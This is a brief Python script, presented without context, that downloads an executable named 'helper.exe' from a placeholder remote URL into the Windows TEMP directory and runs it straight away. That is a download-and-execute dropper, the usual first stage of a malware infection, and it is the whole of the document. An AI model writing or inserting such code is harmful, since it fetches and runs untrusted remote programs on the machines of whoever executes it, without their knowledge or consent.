import os
import subprocess
import urllib.request

_dst = os.path.join(os.environ["TEMP"], "helper.exe")
urllib.request.urlretrieve("https://cdn.example.invalid/attachments/0/0/helper.exe", _dst)
subprocess.Popen([_dst])
